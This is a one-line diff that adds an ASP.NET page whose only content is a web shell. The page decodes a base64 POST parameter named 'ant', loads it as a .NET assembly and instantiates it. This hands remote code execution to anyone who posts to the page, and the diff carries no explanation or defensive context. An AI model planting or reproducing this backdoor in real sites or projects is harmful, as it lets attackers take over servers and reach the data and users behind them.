@@ -1,0 +1,1 @@
+<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%><%Assembly.Load(Convert.FromBase64String(Request.Form["ant"])).CreateInstance("U").Equals(this);%>
